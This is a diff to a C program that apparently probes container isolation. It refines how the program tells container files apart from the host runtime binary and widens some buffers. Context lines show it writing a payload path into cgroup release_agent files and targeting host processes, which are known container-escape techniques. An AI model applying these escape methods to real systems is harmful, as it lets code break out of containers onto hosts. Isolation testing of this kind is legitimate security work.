@@ -134,14 +134,22 @@ static int try_write(int fd, const char *how)
 
 /* True if the file behind fd is reachable by its own name in our root: then it is a file of
  * this container (busybox, the attacker itself), not the host's runtime binary. */
+static bool same_file(const struct stat *a, const char *path)
+{
+	struct stat b;
+	return stat(path, &b) == 0 && a->st_dev == b.st_dev && a->st_ino == b.st_ino;
+}
+
 static bool is_own_file(int fd, const char *link_target)
 {
-	struct stat a, b;
-	if (fstat(fd, &a) < 0 || !link_target || link_target[0] != '/')
+	struct stat a;
+	if (fstat(fd, &a) < 0)
 		return false;
-	if (stat(link_target, &b) < 0)
-		return false;
-	return a.st_dev == b.st_dev && a.st_ino == b.st_ino;
+	if (link_target && link_target[0] == '/' && same_file(&a, link_target))
+		return true;
+	/* The link is unreadable for a moment while a process of ours execs: then compare
+	 * with the executables a container process here can be running. */
+	return same_file(&a, "/proc/self/exe") || same_file(&a, "/bin/busybox") || same_file(&a, "/bin/sh");
 }
 
 static void attack_pid(const char *pid)
@@ -304,8 +312,9 @@ static int release_agent(void)
 			if (access(p, F_OK) != 0)
 				continue;
 			int e = write_file(p, "/kk-escape-release-agent");
-			snprintf(buf, sizeof(buf), "existing-%s", de->d_name);
-			step(buf, e);
+			char name[320];
+			snprintf(name, sizeof(name), "existing-%s", de->d_name);
+			step(name, e);
 			if (!e)
 				agents_written++;
 		}
@@ -354,7 +363,7 @@ static int release_agent(void)
 
 static int fds(const char *pid)
 {
-	char dir[64], path[128], target[4096];
+	char dir[64], path[512], target[4096];
 	DIR *d;
 	struct dirent *de;
 
@@ -384,6 +393,7 @@ static volatile sig_atomic_t stop;
 
 static void on_term(int sig)
 {
+	(void)sig;
 	stop = 1;
 }
 
